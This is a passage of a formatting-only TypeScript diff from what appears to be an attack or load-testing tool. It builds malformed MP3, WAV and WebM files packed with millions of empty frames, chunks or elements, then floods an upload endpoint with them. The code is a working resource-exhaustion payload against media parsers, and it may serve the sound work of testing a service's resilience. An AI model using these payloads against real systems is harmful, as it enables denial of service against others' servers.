@@ -12,14 +12,14 @@ const upload = ({ ask, client }: Attacker, bytes: Buffer, name: string) => {
 /** An mp3 that is one tag of a great many empty frames. */
 function manyTags(bytes: number): Buffer {
   const frame = Buffer.from([0x54, 0x58, 0x58, 0, 0, 1, 0])
-  const body = Buffer.alloc(bytes - bytes % frame.length, frame)
-  const size = [21, 14, 7, 0].map(shift => body.length >> shift & 0x7f)
+  const body = Buffer.alloc(bytes - (bytes % frame.length), frame)
+  const size = [21, 14, 7, 0].map(shift => (body.length >> shift) & 0x7f)
   return Buffer.concat([Buffer.from('ID3\u0002\0\0', 'latin1'), Buffer.from(size), body])
 }
 
 /** A WAV with a list of empty pieces of information. */
 function manyChunks(bytes: number): Buffer {
-  const info = Buffer.alloc(bytes - bytes % 8, Buffer.from('INAM\0\0\0\0', 'latin1'))
+  const info = Buffer.alloc(bytes - (bytes % 8), Buffer.from('INAM\0\0\0\0', 'latin1'))
   const length = (value: number) => {
     const buffer = Buffer.alloc(4)
     buffer.writeUInt32LE(value)
@@ -30,12 +30,18 @@ function manyChunks(bytes: number): Buffer {
 }
 
 /** A WebM of elements that are nothing. */
-const manyVoids = (bytes: number) => Buffer.concat([
-  Buffer.from('1a45dfa3874282847765626d18538067', 'hex'), Buffer.from('01ffffffffffffff', 'hex'), Buffer.alloc(bytes - bytes % 2, Buffer.from([0xec, 0x80]))])
+const manyVoids = (bytes: number) =>
+  Buffer.concat([
+    Buffer.from('1a45dfa3874282847765626d18538067', 'hex'),
+    Buffer.from('01ffffffffffffff', 'hex'),
+    Buffer.alloc(bytes - (bytes % 2), Buffer.from([0xec, 0x80])),
+  ])
 
 export const sounds: Way = attacker => {
   const files = [manyTags(5_000_000), manyChunks(5_000_000)]
-  return flood(attacker.over, 1, at => upload(attacker, files[at % 2] ?? Buffer.alloc(0), at % 2 ? 'voice.wav' : 'voice.mp3'))
+  return flood(attacker.over, 1, at =>
+    upload(attacker, files[at % 2] ?? Buffer.alloc(0), at % 2 ? 'voice.wav' : 'voice.mp3'),
+  )
 }
 
 export const films: Way = attacker => {
